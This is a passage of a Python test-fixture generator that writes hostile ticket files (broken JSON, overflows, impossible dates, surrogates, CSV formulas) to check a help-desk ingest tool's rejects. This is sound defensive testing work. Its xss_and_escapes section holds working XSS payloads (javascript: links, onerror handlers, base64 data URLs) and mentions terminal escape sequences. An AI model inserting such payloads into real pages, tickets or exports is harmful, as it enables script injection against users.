        "tickets/csv_formula_injection.csv",
        "tickets",
        [f"FI-{n:03}" for n in range(1, len(formulas) + 1)],
        notes=(
            "Spreadsheet formulas (=, +, -, @, tab, CR) in every text cell: they load as text; the "
            "CSV exports (scorecard --csv, weekly --csv, rejects) must neutralise them."
        ),
    )

    # 31. Thousands of unknown columns
    header = ["id", "title"] + [f"custom_field_{n}" for n in range(3000)]
    doc = Text()
    doc.row(header)
    doc.row(["WC-001", "Row in a 3000-column export"] + ["x"] * 3000)
    doc.row(["WC-002", "Second row"] + [""] * 3000)
    write("tickets/csv_wide_header.csv", doc.text())
    entry(
        "tickets/csv_wide_header.csv",
        "tickets",
        ["WC-001", "WC-002"],
        notes="3,000 unknown columns: rows load; the warning listing ignored columns stays readable (capped).",
    )

    # 32. A PSA preset with hostile values (ConnectWise, hours)
    header = [
        "TicketNbr",
        "Summary",
        "Detail_Description",
        "Resolution",
        "date_entered",
        "date_closed",
        "Hours_Actual",
    ]
    doc = Text("\r\n")
    doc.row(header)
    doc.row(
        [
            "CW-001",
            "Good ConnectWise row",
            "d",
            "Restarted, tested",
            "10/01/2025 9:00 AM",
            "10/01/2025 11:00 AM",
            "1.5",
        ]
    )
    b1 = doc.row(
        ["CW-002", "1e308 hours", "d", "r", "10/01/2025 9:00 AM", "10/01/2025 11:00 AM", "1e308"]
    )
    b2 = doc.row(
        [
            "CW-003",
            "2^63 hours",
            "d",
            "r",
            "10/01/2025 9:00 AM",
            "10/01/2025 11:00 AM",
            "9223372036854775808",
        ]
    )
    b3 = doc.row(["CW-004", "Impossible US date", "d", "r", "13/45/2025 9:00 AM", "", "1"])
    b4 = doc.row(["CW-005", "February 30th", "d", "r", "02/30/2025", "", "1"])
    doc.row(
        [
            "CW-006",
            "Good row after the bad ones",
            "d",
            "Fixed, tested",
            "10/02/2025 9:00 AM",
            "10/02/2025 9:30 AM",
            "0:30",
        ]
    )
    write("tickets/csv_preset_connectwise_hostile.csv", doc.text())
    entry(
        "tickets/csv_preset_connectwise_hostile.csv",
        "tickets",
        ["CW-001", "CW-006"],
        preset="connectwise",
        bad_ids=["CW-002", "CW-003", "CW-004", "CW-005"],
        rejected=[
            rej(b1, "time_spent_minutes", "number|range|too large|limit"),
            rej(b2, "time_spent_minutes", "range|too large|limit|implausible"),
            rej(b3, "created_at", "date"),
            rej(b4, "created_at", "date"),
        ],
        notes="ConnectWise preset (hours): 2^63 hours is 5.5e20 minutes and is accepted today.",
    )


def broken_json() -> None:
    # 33. Broken lines among good ones
    doc = Text()
    doc.json(ticket("BJ-001", 1))
    b1 = doc.raw('{"id": "BJ-002", "title": "Truncated line", "description": "cut off here\n')
    doc.json(ticket("BJ-003", 3))
    b2 = doc.raw("{'id': 'BJ-004', 'title': 'Single quotes'}\n")
    b3 = doc.raw('{id: "BJ-005", title: "Unquoted keys"}\n')
    b4 = doc.raw('{"id": "BJ-006", "title": "Trailing comma",}\n')
    doc.json(ticket("BJ-007", 7))
    b5 = doc.raw(
        '{"id": "BJ-008", "title": "Two objects"} {"id": "BJ-009", "title": "on one line"}\n'
    )
    doc.raw("   \n\n")
    doc.json(ticket("BJ-010", 10))
    write("tickets/jsonl_broken_lines.jsonl", doc.text())
    entry(
        "tickets/jsonl_broken_lines.jsonl",
        "tickets",
        ["BJ-001", "BJ-003", "BJ-007", "BJ-010"],
        bad_ids=["BJ-002", "BJ-004", "BJ-005", "BJ-006", "BJ-008", "BJ-009"],
        rejected=[rej(b, "*", "json") for b in (b1, b2, b3, b4, b5)],
        notes="Truncated, single-quoted, unquoted-key, trailing-comma and two-objects lines are rejected one by one.",
    )

    # 34. Lines that are JSON but not objects
    doc = Text()
    doc.json(ticket("NO-001", 1))
    bad = [
        doc.raw(line + "\n")
        for line in (
            "[1, 2, 3]",
            '"just a string"',
            "42",
            "null",
            "true",
            '[{"id": "NO-X", "title": "object inside an array"}]',
        )
    ]
    empty = doc.raw("{}\n")
    doc.json(ticket("NO-002", 2))
    write("tickets/jsonl_non_objects.jsonl", doc.text())
    entry(
        "tickets/jsonl_non_objects.jsonl",
        "tickets",
        ["NO-001", "NO-002"],
        bad_ids=["NO-X"],
        rejected=[rej(b, "*", "object") for b in bad] + [rej(empty, "id", "missing")],
        notes="Arrays, strings, numbers, null, true and an empty object as lines.",
    )

    # 35. Deep nesting
    doc = Text()
    doc.json(ticket("DN-001", 1))
    b1 = doc.raw("[" * 20000 + "]" * 20000 + "\n")
    nested: Any = "bottom"
    for _ in range(900):
        nested = {"a": nested}
    b2 = doc.raw(
        json.dumps(
            {"id": "DN-003", "title": "Description is a 900-deep object", "description": nested}
        )
        + "\n"
    )
    b3 = doc.raw(
        '{"id": "DN-004", "title": "Notes nested 20000 deep", "notes": '
        + "[" * 20000
        + "]" * 20000
        + "}\n"
    )
    doc.json(ticket("DN-005", 5))
    write("tickets/jsonl_deep_nesting.jsonl", doc.text())
    entry(
        "tickets/jsonl_deep_nesting.jsonl",
        "tickets",
        ["DN-001", "DN-005"],
        bad_ids=["DN-003", "DN-004"],
        rejected=[
            rej(b1, "*", "json|deep|nest|object"),
            rej(b2, "description", "text|deep|nest"),
            rej(b3, "*", "json|deep|nest"),
        ],
        notes="20,000-deep arrays (past the recursion limit) and a 900-deep object in a text field.",
    )

    # 36. Duplicate ids
    doc = Text()
    doc.json(ticket("DUP-001", 1))
    d1 = doc.json(ticket("DUP-001", 2, title="Same id, different content"))
    doc.json(ticket("DUP-002", 3))
    d2 = doc.json(ticket("  DUP-002  ", 4, title="Same id with spaces around it"))
    doc.json(ticket(7, 5, title="Numeric id 7"))
    d3 = doc.json(ticket("7", 6, title="Text id '7'"))
    doc.json(ticket(1.0, 7, title="Id 1.0 (becomes '1')"))
    d4 = doc.json(ticket(1, 0, title="Id 1"))
    doc.json(ticket("DUP-003", 1))
    write("tickets/jsonl_duplicate_ids.jsonl", doc.text())
    entry(
        "tickets/jsonl_duplicate_ids.jsonl",
        "tickets",
        ["DUP-001", "DUP-002", "7", "1", "DUP-003"],
        rejected=[rej(r, "id", "duplicate") for r in (d1, d2, d3, d4)],
        notes="The same id again (also after trimming and number-to-text): the later row is rejected.",
    )

    # 37. Duplicate keys within one object
    doc = Text()
    doc.json(ticket("DK-001", 1))
    bad = doc.raw(
        '{"id": "DK-002", "title": "Which id wins?", "id": "DK-999", "created_at": "2025-10-01"}\n'
    )
    bad2 = doc.raw('{"id": "DK-003", "title": "First title", "title": "Second title"}\n')
    doc.json(ticket("DK-004", 4))
    write("tickets/jsonl_duplicate_keys.jsonl", doc.text())
    entry(
        "tickets/jsonl_duplicate_keys.jsonl",
        "tickets",
        ["DK-001", "DK-004"],
        bad_ids=["DK-002", "DK-999", "DK-003"],
        rejected=[
            rej(bad, "id", "duplicate|twice|ambiguous"),
            rej(bad2, "title", "duplicate|twice|ambiguous"),
        ],
        notes="A key repeated inside one object is ambiguous (json.loads keeps the last silently).",
    )

    # 38. JSON array with a broken element in the middle (pretty-printed)
    items = [ticket(f"JA-{n:03}", n) for n in range(1, 7)]
    parts = ["[\n"]
    starts: dict[str, int] = {}
    for index, item in enumerate(items):
        text = json.dumps(item, indent=2, ensure_ascii=False)
        if item["id"] == "JA-003":
            text = text.replace('"description": ', '"description" ', 1)  # missing colon
        starts[item["id"]] = breaks("".join(parts)) + 1
        parts.append(text + (",\n" if index < len(items) - 1 else "\n"))
    parts.append("]\n")
    write("tickets/json_array_broken_middle.json", "".join(parts))
    entry(
        "tickets/json_array_broken_middle.json",
        "tickets",
        ["JA-001", "JA-002", "JA-004", "JA-005", "JA-006"],
        bad_ids=["JA-003"],
        rejected=[rej(starts["JA-003"], "*", "json")],
        notes=(
            "Issue 13 finding 6: a JSON array whose third element lacks a colon. Today the array "
            "stops there and JA-004..JA-006 are lost (with a warning)."
        ),
    )

    # 39. JSON array with non-object elements
    parts = ["[\n"]
    starts = {}
    elements: list[Any] = [
        ticket("JN-001", 1),
        42,
        "text",
        None,
        [ticket("JN-X", 2)],
        ticket("JN-002", 3),
    ]
    for index, element in enumerate(elements):
        starts[str(index)] = breaks("".join(parts)) + 1
        parts.append(
            "  "
            + json.dumps(element, ensure_ascii=False)
            + (",\n" if index < len(elements) - 1 else "\n")
        )
    parts.append("]\n")
    write("tickets/json_array_non_objects.json", "".join(parts))
    entry(
        "tickets/json_array_non_objects.json",
        "tickets",
        ["JN-001", "JN-002"],
        bad_ids=["JN-X"],
        rejected=[rej(starts[str(i)], "*", "object") for i in (1, 2, 3, 4)],
        notes="Numbers, text, null and a nested array between objects: each rejected, objects kept.",
    )

    # 40. Unterminated array and trailing garbage
    body = ",\n".join(json.dumps(ticket(f"JU-{n:03}", n)) for n in range(1, 4))
    write("tickets/json_array_unterminated.json", "[\n" + body + "\n")
    entry(
        "tickets/json_array_unterminated.json",
        "tickets",
        ["JU-001", "JU-002", "JU-003"],
        notes="The closing ']' is missing (a truncated download): the complete objects load; a warning says the array is unterminated.",
    )
    doc = Text()
    doc.raw("[\n" + ",\n".join(json.dumps(ticket(f"JT-{n:03}", n)) for n in range(1, 3)) + "\n]\n")
    trailing = doc.json(ticket("JT-003", 3))
    write("tickets/json_array_trailing_data.json", doc.text())
    entry(
        "tickets/json_array_trailing_data.json",
        "tickets",
        ["JT-001", "JT-002"],
        bad_ids=["JT-003"],
        rejected=[rej(trailing, "*", "after|trailing|extra|json")],
        notes="A ticket after the closing ']' (two exports concatenated): today ignored without a word.",
    )

    # 41. BOM + CRLF pretty JSON array
    text = json.dumps(
        [ticket(f"JB-{n:03}", n) for n in range(1, 4)], indent=2, ensure_ascii=False
    ).replace("\n", "\r\n")
    write("tickets/json_array_bom_crlf.json", "\ufeff" + text + "\r\n")
    entry(
        "tickets/json_array_bom_crlf.json",
        "tickets",
        ["JB-001", "JB-002", "JB-003"],
        notes="BOM and CRLF in a pretty-printed array.",
    )

    # 42. Wrong types per field
    doc = Text()
    doc.json(ticket("WT-001", 1))
    wrong = [
        ("WT-002", "title", {"en": "object title"}, "text|object"),
        ("WT-003", "description", ["a", "list"], "text|array"),
        ("WT-004", "kb_links", 5, "list"),
        ("WT-005", "notes", "not json", "notes|list"),
        ("WT-006", "reopen_count", "many", "whole number"),
        ("WT-007", "reopen_count", 1.5, "whole number"),
        ("WT-008", "escalation_count", True, "whole number"),
        ("WT-009", "created_at", 1700000000, "date"),
        ("WT-010", "status", {"a": 1}, "text|object"),
        ("WT-011", "time_spent_minutes", [30], "number"),
        (
            "WT-012",
            "notes",
            [{"author": "Dana", "text": "hi", "internal": "maybe"}],
            "internal|true or false",
        ),
        ("WT-013", "notes", [{"author": "Dana", "text": {"html": "<p>x</p>"}}], "text|object"),
    ]
    rows = []
    for tid, field, value, reason in wrong:
        rows.append(rej(doc.json(ticket(tid, 2, **{field: value})), field, reason))
    doc.json(ticket("WT-014", 3))
    write("tickets/jsonl_wrong_types.jsonl", doc.text())
    entry(
        "tickets/jsonl_wrong_types.jsonl",
        "tickets",
        ["WT-001", "WT-014"],
        bad_ids=[tid for tid, *_ in wrong],
        rejected=rows,
        notes="Every field with a value of the wrong JSON type: one reject each, naming the field.",
    )

    # 43. Long and enormous values
    doc = Text()
    doc.json(ticket("LV-001", 1))
    b1 = doc.json(ticket("LV-" + "9" * 98, 2))
    b2 = doc.raw('{"id": ' + "9" * 5000 + ', "title": "5000-digit numeric id"}\n')
    b3 = doc.json(ticket("LV-004", 4, kb_links=["KB-" + "x" * 120]))
    doc.json(ticket("LV-005", 5, title="Long title " + "word " * 4000))
    doc.json(ticket("LV-006", 6))
    write("tickets/jsonl_long_values.jsonl", doc.text())
    entry(
        "tickets/jsonl_long_values.jsonl",
        "tickets",
        ["LV-001", "LV-005", "LV-006"],
        bad_ids=["LV-" + "9" * 98, "LV-004"],
        rejected=[
            rej(b1, "id", "longer|long|100"),
            rej(b2, "*", "json|digits|id|long"),
            rej(b3, "kb_links", "100|long"),
        ],
        exact=False,
        notes=(
            "A 101-character id, a 5000-digit JSON number as id (Python refuses to convert it), a "
            "120-character article link, and a 20 KB title (may load, possibly shortened)."
        ),
    )

    # 44. Empty and falsy ids
    doc = Text()
    doc.json(ticket("EI-001", 1))
    b = [doc.json(ticket(value, 2)) for value in ("", "   ", None)]
    b4 = doc.json(ticket("EI-004", 3, title=""))
    doc.json(ticket(0, 4, title="Id zero is a real ticket number"))
    b5 = doc.json(ticket(False, 5, title="Boolean id"))
    b6 = doc.raw('{"id": NaN, "title": "NaN id"}\n')
    b7 = doc.raw('{"id": Infinity, "title": "Infinity id"}\n')
    doc.json(ticket("EI-005", 6))
    write("tickets/jsonl_empty_ids.jsonl", doc.text())
    entry(
        "tickets/jsonl_empty_ids.jsonl",
        "tickets",
        ["EI-001", "0", "EI-005"],
        bad_ids=["EI-004", "false", "nan", "inf", "NaN", "Infinity"],
        rejected=[rej(r, "id", "missing") for r in b]
        + [
            rej(b4, "title", "missing"),
            rej(b5, "id", "text|true/false|boolean|id"),
            rej(b6, "*", "json|number|id"),
            rej(b7, "*", "json|number|id"),
        ],
        notes="Empty, blank and null ids; 0 is a valid id; false, NaN and Infinity are not ids (today they become 'false', 'nan', 'inf').",
    )


def overflows() -> None:
    big = 2**63
    doc = Text()
    doc.json(ticket("OV-001", 1))
    b1 = doc.json(ticket("OV-002", 2, reopen_count=big))
    b2 = doc.json(ticket("OV-003", 3, escalation_count=2**64))
    b3 = doc.json(ticket("OV-004", 4, time_spent_minutes=big))
    doc.json(ticket(big, 5, title="Id 2^63 as a JSON number (fine as text)"))
    b4 = doc.json(ticket("OV-005", 6, reopen_count=-(2**63) - 1))
    doc.json(ticket("OV-006", 7, reopen_count=2**63 - 1, title="2^63-1 reopens"))
    doc.json(ticket("OV-007", 8))
    write("tickets/ovf_int64.jsonl", doc.text())
    entry(
        "tickets/ovf_int64.jsonl",
        "tickets",
        ["OV-001", str(big), "OV-007"],
        bad_ids=["OV-002", "OV-003", "OV-004", "OV-005"],
        rejected=[
            rej(b1, "reopen_count", "range|too large|limit|implausible"),
            rej(b2, "escalation_count", "range|too large|limit|implausible"),
            rej(b3, "time_spent_minutes", "range|too large|limit|implausible"),
            rej(b4, "reopen_count", "negative"),
        ],
        exact=False,
        notes=(
            "Issue 13 finding 5: 2^63 does not fit SQLite's INTEGER, so today the whole ingest "
            "ends in OverflowError and no row loads. OV-006 (2^63-1 reopens) fits the column; "
            "whether it is plausible is left open (not in good_ids or bad_ids)."
        ),
    )

    doc = Text()
    doc.row(CSV_HEADER)
    doc.row(cells(ticket("OVC-001", 1)))
    b1 = doc.row(cells(ticket("OVC-002", 2, reopen_count=str(big))))
    b2 = doc.row(cells(ticket("OVC-003", 3, escalation_count="99999999999999999999999")))
    b3 = doc.row(cells(ticket("OVC-004", 4, time_spent_minutes="99999999999999999999999")))
    doc.row(cells(ticket("OVC-005", 5)))
    write("tickets/ovf_int64.csv", doc.text())
    entry(
        "tickets/ovf_int64.csv",
        "tickets",
        ["OVC-001", "OVC-005"],
        bad_ids=["OVC-002", "OVC-003", "OVC-004"],
        rejected=[
            rej(b1, "reopen_count", "range|too large|limit|implausible"),
            rej(b2, "escalation_count", "range|too large|limit|implausible"),
            rej(b3, "time_spent_minutes", "range|too large|limit|implausible"),
        ],
        notes="The same overflows as CSV text.",
    )

    doc = Text()
    doc.json(ticket("MIN-001", 1))
    b1 = doc.raw(
        json.dumps(ticket("MIN-002", 2)).replace(
            '"time_spent_minutes": 35', '"time_spent_minutes": 1e308'
        )
        + "\n"
    )
    b2 = doc.raw(
        json.dumps(ticket("MIN-003", 3)).replace(
            '"time_spent_minutes": 35', '"time_spent_minutes": 1.7976931348623157e308'
        )
        + "\n"
    )
    b3 = doc.raw(
        json.dumps(ticket("MIN-004", 4)).replace(
            '"time_spent_minutes": 35', '"time_spent_minutes": 1e309'
        )
        + "\n"
    )
    b4 = doc.json(ticket("MIN-005", 5, time_spent_minutes=-5))
    b5 = doc.raw(
        json.dumps(ticket("MIN-006", 6)).replace(
            '"time_spent_minutes": 35', '"time_spent_minutes": -Infinity'
        )
        + "\n"
    )
    b6 = doc.json(ticket("MIN-007", 7, time_spent_minutes=525600000))
    doc.raw(
        json.dumps(ticket("MIN-008", 0, title="Minus zero minutes")).replace(
            '"time_spent_minutes": 35', '"time_spent_minutes": -0.0'
        )
        + "\n"
    )
    doc.raw(
        json.dumps(ticket("MIN-009", 1, title="5e-324 minutes")).replace(
            '"time_spent_minutes": 35', '"time_spent_minutes": 5e-324'
        )
        + "\n"
    )
    b7 = doc.json(ticket("MIN-010", 2, time_spent_minutes="1e308"))
    doc.json(ticket("MIN-011", 3))
    write("tickets/ovf_minutes.jsonl", doc.text())
    entry(
        "tickets/ovf_minutes.jsonl",
        "tickets",
        ["MIN-001", "MIN-008", "MIN-009", "MIN-011"],
        bad_ids=["MIN-002", "MIN-003", "MIN-004", "MIN-005", "MIN-006", "MIN-007", "MIN-010"],
        rejected=[
            rej(b1, "time_spent_minutes", "range|too large|limit|implausible"),
            rej(b2, "time_spent_minutes", "range|too large|limit|implausible"),
            rej(b3, "time_spent_minutes", "number|range|finite"),
            rej(b4, "time_spent_minutes", "negative"),
            rej(b5, "time_spent_minutes", "number|negative|finite"),
            rej(b6, "time_spent_minutes", "range|too large|limit|implausible"),
            rej(b7, "time_spent_minutes", "number|range|too large"),
        ],
        notes=(
            "Issue 13 finding 10: 1e308 and 1000 years (525,600,000 minutes) are accepted today; "
            "1e309 is infinity; -0.0 and 5e-324 are zero-ish and fine."
        ),
    )

    doc = Text()
    doc.row(CSV_HEADER)
    doc.row(cells(ticket("MINC-001", 1)))
    bad_values = [
        ("MINC-002", "1e308", "number|range|too large"),
        ("MINC-003", "-30", "negative"),
        ("MINC-004", "1:99", "number"),
        ("MINC-005", "9999999:00", "range|too large|limit|implausible"),
        ("MINC-006", "NaN", "number"),
        ("MINC-007", "1e3 minutes", "number"),
    ]
    rows = [
        rej(doc.row(cells(ticket(tid, 2, time_spent_minutes=value))), "time_spent_minutes", reason)
        for tid, value, reason in bad_values
    ]
    doc.row(cells(ticket("MINC-008", 3, time_spent_minutes="1 day 2 hours")))
    doc.row(cells(ticket("MINC-009", 4, time_spent_minutes="1970-01-01 02:10:00")))
    write("tickets/ovf_minutes.csv", doc.text())
    entry(
        "tickets/ovf_minutes.csv",
        "tickets",
        ["MINC-001", "MINC-008", "MINC-009"],
        bad_ids=[tid for tid, *_ in bad_values],
        rejected=rows,
        notes="Durations as CSV text: exponent, negative, bad clock, 1,141 years as h:mm, NaN.",
    )

    header = ["Ticket ID", "Summary", "Details", "Clearance Note", "Date Opened", "Time Taken"]
    doc = Text()
    doc.row(header)
    doc.row(["HP-001", "Good HaloPSA row", "d", "Fixed, tested", "01/10/2025 09:00", "0.5"])
    b1 = doc.row(
        ["HP-002", "2^63 minutes as hours", "d", "r", "01/10/2025 09:00", "153722867280912930"]
    )
    b2 = doc.row(["HP-003", "31st of February", "d", "r", "31/02/2025 09:00", "1"])
    doc.row(["HP-004", "Good row after", "d", "Fixed, tested", "02/10/2025 09:00", "1,25"])
    write("tickets/ovf_hours_preset_halopsa.csv", doc.text())
    entry(
        "tickets/ovf_hours_preset_halopsa.csv",
        "tickets",
        ["HP-001", "HP-004"],
        preset="halopsa",
        bad_ids=["HP-002", "HP-003"],
        rejected=[
            rej(b1, "time_spent_minutes", "range|too large|limit|implausible"),
            rej(b2, "created_at", "date"),
        ],
        notes="HaloPSA preset (hours, day-first dates): 1.5e17 hours is 9.2e18 minutes.",
    )


def dates() -> None:
    doc = Text()
    doc.json(ticket("DT-001", 1))
    cases = [
        ("DT-002", {"created_at": "2025-13-45"}, "created_at", "date"),
        ("DT-003", {"created_at": "2025-02-30T09:00:00Z"}, "created_at", "date"),
        ("DT-004", {"created_at": "2025-02-29"}, "created_at", "date"),
        ("DT-006", {"created_at": "0000-01-01"}, "created_at", "date"),
        ("DT-007", {"created_at": "10000-01-01"}, "created_at", "date"),
        (
            "DT-008",
            {"created_at": "9999-12-31T23:59:59-01:00", "resolved_at": None, "closed_at": None},
            "created_at",
            "range|date|future",
        ),
        ("DT-009", {"created_at": "0001-01-01T00:00:00+01:00"}, "created_at", "range|date"),
        ("DT-010", {"resolved_at": "2025-09-30T09:00:00Z"}, "resolved_at", "before"),
        ("DT-011", {"closed_at": "2025-10-01T08:59:59Z"}, "closed_at", "before"),
        ("DT-012", {"created_at": "yesterday"}, "created_at", "date"),
        (
            "DT-013",
            {"notes": [{"author": "Dana", "created_at": "last tuesday", "text": "x"}]},
            "notes",
            "date",
        ),
        ("DT-014", {"created_at": "2025-10-01T09:00:00+25:00"}, "created_at", "date"),
    ]
    rows = [
        rej(doc.json(ticket(tid, n, **fields)), field, reason)
        for n, (tid, fields, field, reason) in enumerate(cases)
    ]
    doc.json(
        ticket(
            "DT-016",
            2,
            created_at="2025-10-01T09:00:00+14:00",
            resolved_at="2025-10-01T10:00:00+14:00",
            closed_at="2025-10-01T10:00:00+14:00",
        )
    )
    doc.json(
        ticket(
            "DT-017",
            3,
            created_at="20251001T090000Z",
            resolved_at="20251001T100000Z",
            closed_at="20251001T100000Z",
        )
    )
    doc.json(
        ticket(
            "DT-018", 4, created_at="2025-10-01", resolved_at="2025-10-01", closed_at="2025-10-02"
        )
    )
    write("tickets/date_impossible.jsonl", doc.text())
    entry(
        "tickets/date_impossible.jsonl",
        "tickets",
        ["DT-001", "DT-016", "DT-017", "DT-018"],
        bad_ids=[c[0] for c in cases],
        rejected=rows,
        notes=(
            "Month 13, 30 February, 29 February 2025, year 0 and 10000, offsets that leave "
            "datetime's range, resolved/closed before created, offset +25:00, a bad note date. "
            "Offsets +14:00 and the basic format (20251001T090000Z) are valid."
        ),
    )

    doc = Text()
    doc.row(CSV_HEADER)
    doc.row(cells(ticket("DTC-001", 1)))
    rows = []
    for n, (tid, value) in enumerate(
        [
            ("DTC-002", "2025-13-45"),
            ("DTC-003", "13/45/2025"),
            ("DTC-004", "2025-02-30 09:00"),
            ("DTC-005", "31.02.2025"),
        ]
    ):
        rows.append(rej(doc.row(cells(ticket(tid, n, created_at=value))), "created_at", "date"))
    rows.append(
        rej(
            doc.row(cells(ticket("DTC-006", 5, resolved_at="2025-09-01T00:00:00Z"))),
            "resolved_at",
            "before",
        )
    )
    doc.row(cells(ticket("DTC-007", 6)))
    write("tickets/date_impossible.csv", doc.text())
    entry(
        "tickets/date_impossible.csv",
        "tickets",
        ["DTC-001", "DTC-007"],
        bad_ids=[f"DTC-00{n}" for n in range(2, 7)],
        rejected=rows,
        notes="Impossible dates as CSV text.",
    )

    doc = Text()
    doc.json(ticket("FU-001", 1))
    b1 = doc.json(
        ticket(
            "FU-002",
            2,
            created_at="2099-01-01T09:00:00Z",
            resolved_at="2099-01-01T10:00:00Z",
            closed_at="2099-01-01T11:00:00Z",
        )
    )
    b2 = doc.json(ticket("FU-003", 3, closed_at="2099-12-31T00:00:00Z"))
    b3 = doc.json(
        ticket(
            "FU-004",
            4,
            notes=[
                {
                    "author": "Dana Whitfield",
                    "created_at": "2099-06-01T00:00:00Z",
                    "text": "Note from the future",
                    "internal": True,
                }
            ],
        )
    )
    doc.json(ticket("FU-005", 5))
    write("tickets/date_future.jsonl", doc.text())
    entry(
        "tickets/date_future.jsonl",
        "tickets",
        ["FU-001", "FU-005"],
        bad_ids=["FU-002", "FU-003", "FU-004"],
        rejected=[
            rej(b1, "created_at", "future"),
            rej(b2, "closed_at", "future"),
            rej(b3, "notes", "future"),
        ],
        notes=(
            "Issue 13 finding 10: one ticket dated 2099 empties the gaps page and moves the weekly "
            "review to 2098. Dates beyond a small tolerance after the ingest are rejected."
        ),
    )


def surrogates() -> None:
    doc = Text()
    doc.json(ticket("SU-001", 1))
    b1 = doc.raw(
        '{"id": "SU-002", "title": "Lone high \\ud800 surrogate", "created_at": "2025-10-01"}\n'
    )
    b2 = doc.raw(
        '{"id": "SU-003", "title": "Lone low in description", "description": "x\\udfffy"}\n'
    )
    b3 = doc.raw('{"id": "SU-004", "title": "Reversed pair", "resolution": "\\udc00\\ud800"}\n')
    doc.raw(
        '{"id": "SU-005", "title": "Valid pair \\ud83d\\udd25 is fine", "created_at": "2025-10-01"}\n'
    )
    b4 = doc.raw(
        '{"id": "SU-006", "title": "Surrogate in a note", "notes": [{"author": "Dana", "text": "\\ud800"}]}\n'
    )
    b5 = doc.raw(
        '{"id": "SU-007", "title": "Surrogate in the client", "client": "Acme \\udbff Dental"}\n'
    )
    doc.raw('{"id": "SU-008", "title": "Surrogate in an unknown key", "\\ud800weird": "x"}\n')
    doc.json(ticket("SU-009", 2))
    write("tickets/surrogate_escapes.jsonl", doc.text())
    entry(
        "tickets/surrogate_escapes.jsonl",
        "tickets",
        ["SU-001", "SU-005", "SU-008", "SU-009"],
        bad_ids=["SU-002", "SU-003", "SU-004", "SU-006", "SU-007"],
        rejected=[
            rej(b1, "title", "surrogate|unicode|character|encod"),
            rej(b2, "description", "surrogate|unicode|character|encod"),
            rej(b3, "resolution", "surrogate|unicode|character|encod"),
            rej(b4, "notes", "surrogate|unicode|character|encod"),
            rej(b5, "client", "surrogate|unicode|character|encod"),
        ],
        expect_fields={"SU-005": {"title": "Valid pair \U0001f525 is fine"}},
        notes=(
            "Issue 13 finding 5: '\\ud800' is valid JSON but not encodable text; today hashing or "
            "the database write raises UnicodeEncodeError and the whole file is lost. SU-008 has "
            "the surrogate only in an ignored column name (its warning must not crash either)."
        ),
    )

    doc = Text()
    doc.json(ticket("SI-001", 1))
    bad = doc.raw('{"id": "SI-\\ud800", "title": "Surrogate in the id"}\n')
    bad2 = doc.raw('{"id": "SI-003", "title": "Surrogate in a link", "kb_links": ["KB-\\udfff"]}\n')
    doc.json(ticket("SI-004", 2))
    write("tickets/surrogate_in_id.jsonl", doc.text())
    entry(
        "tickets/surrogate_in_id.jsonl",
        "tickets",
        ["SI-001", "SI-004"],
        bad_ids=["SI-003"],
        rejected=[
            rej(bad, "id", "surrogate|unicode|character|encod"),
            rej(bad2, "kb_links", "surrogate|unicode|character|encod"),
        ],
        notes="A lone surrogate in the id and in an article link.",
    )

    items = [json.dumps(ticket(f"SA-{n:03}", n), indent=2) for n in range(1, 5)]
    items[1] = items[1].replace('"description": "', '"description": "\\ud800 ', 1)
    starts = []
    text = "[\n"
    for index, item in enumerate(items):
        starts.append(breaks(text) + 1)
        text += item + (",\n" if index < len(items) - 1 else "\n")
    text += "]\n"
    write("tickets/surrogate_array.json", text)
    entry(
        "tickets/surrogate_array.json",
        "tickets",
        ["SA-001", "SA-003", "SA-004"],
        bad_ids=["SA-002"],
        rejected=[rej(starts[1], "description", "surrogate|unicode|character|encod")],
        notes="A surrogate in the second element of a JSON array.",
    )


def xss_and_escapes() -> None:
    doc = Text()
    ids = []
    for number, payload in enumerate(XSS, start=1):
        tid = f"XS-{number:03}"
        ids.append(tid)
        doc.json(
            ticket(
                tid,
                number,
                title=f"Title {payload}",
                description=f"Description {payload}",
                resolution=f"Restarted the service and tested. {payload}",
                status=payload[:40],
                priority=payload[:30],
                category=payload[:40],
                client=f"Client {payload}",
                assignee=f"Tech {payload}",
                kb_links=[f"KB-{number}", payload[:90]],
                notes=[
                    {
                        "author": f"Author {payload}",
                        "created_at": "2025-10-01T09:30:00Z",
                        "text": payload,
                        "internal": False,
                    }
                ],
            )
        )
    write("tickets/xss_every_field.jsonl", doc.text())
    entry(
        "tickets/xss_every_field.jsonl",
        "tickets",
        ids,
        notes=(
            "Script tags, event handlers, javascript: links, template syntax and entity-encoded "
            "tags in every text field, note and article link. All rows load; every page, snippet "
            "and API response shows them as text (the ticket page, search, similar, review, gaps)."
        ),
    )

    doc = Text()
    doc.row(CSV_HEADER)
    ids = []
    for number, payload in enumerate(XSS, start=1):
        tid = f"XC-{number:03}"
        ids.append(tid)
        doc.row(
            cells(
                ticket(
                    tid,
                    number,
                    title=f"Title {payload}",
                    description=payload,
                    resolution=f"Fixed and tested. {payload}",
                    client=f"Client {payload}",
                    assignee=f"Tech {payload}",
                    category=payload[:40],
                )
            )
        )
    write("tickets/xss_every_field.csv", doc.text())
    entry("tickets/xss_every_field.csv", "tickets", ids, notes="The same payloads through CSV.")

    doc = Text()
    rich = [
        "<p>Open <a href=\"javascript:alert('xss-a')\">this link</a> to fix it.</p>",
        "<p>&lt;img src=x onerror=alert('xss-b')&gt;</p>",
        "<div><svg><script>alert('xss-c')</script></svg></div>",
        "<a href=\"&#106;avascript:alert('xss-d')\">entity-encoded scheme</a>",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLWUnKTwvc2NyaXB0Pg==">data URL</a>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-f')>",
    ]
    ids = []
    for number, html in enumerate(rich, start=1):
        tid = f"XH-{number:03}"
        ids.append(tid)
        doc.json(ticket(tid, number, description=html, resolution=f"<p>Resolved.</p>{html}"))
    write("tickets/xss_html_descriptions.jsonl", doc.text())
    entry(
        "tickets/xss_html_descriptions.jsonl",
        "tickets",
        ids,
        notes=(
            "HTML descriptions that html_to_text turns into text which is itself markup "
            "(entity-decoded tags, javascript: and data: link targets kept in brackets)."
        ),
    )

    doc = Text()
    ids = []
    for number, title in enumerate(ESCAPES, start=1):
        tid = f"TE-{number:03}"
        ids.append(tid)
        doc.json(
            ticket(
                tid,
                number,
                title=title,
                description=f"Body: {title}",
                resolution=f"Resolved and tested. {title}",
                assignee="Dana\x1b[31m Whitfield",
            )
        )
    write("tickets/term_escapes.jsonl", doc.text())
    entry(
        "tickets/term_escapes.jsonl",
        "tickets",
        ids,
        notes=(
            "Issue 13 finding 11: ANSI/OSC escape sequences (clear screen, OSC 52 clipboard write, "
            "OSC 8 links, C1 CSI, CR overwrite, backspaces) in titles, bodies and an assignee name. "
